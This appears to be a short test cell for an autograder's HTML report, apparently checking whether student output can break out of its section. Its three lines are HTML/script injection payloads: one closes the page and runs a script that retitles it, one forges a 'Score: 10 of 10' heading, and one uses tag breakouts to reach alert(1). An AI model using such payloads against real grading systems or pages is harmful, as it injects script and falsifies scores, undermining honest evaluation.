"""Tags that end the report's own elements put what follows outside of the student's part."""

# %% answer:number
from IPython.display import HTML, display

print("</pre></div></section></main></body></html><script>document.title='owned'</script>")
display(HTML("</div></section></main></body><h1>Score: 10 of 10</h1><table><tr><td><!--"))
display(HTML("<textarea><title><noscript><plaintext><xmp><![CDATA[ </textarea><script>alert(1)</script>"))
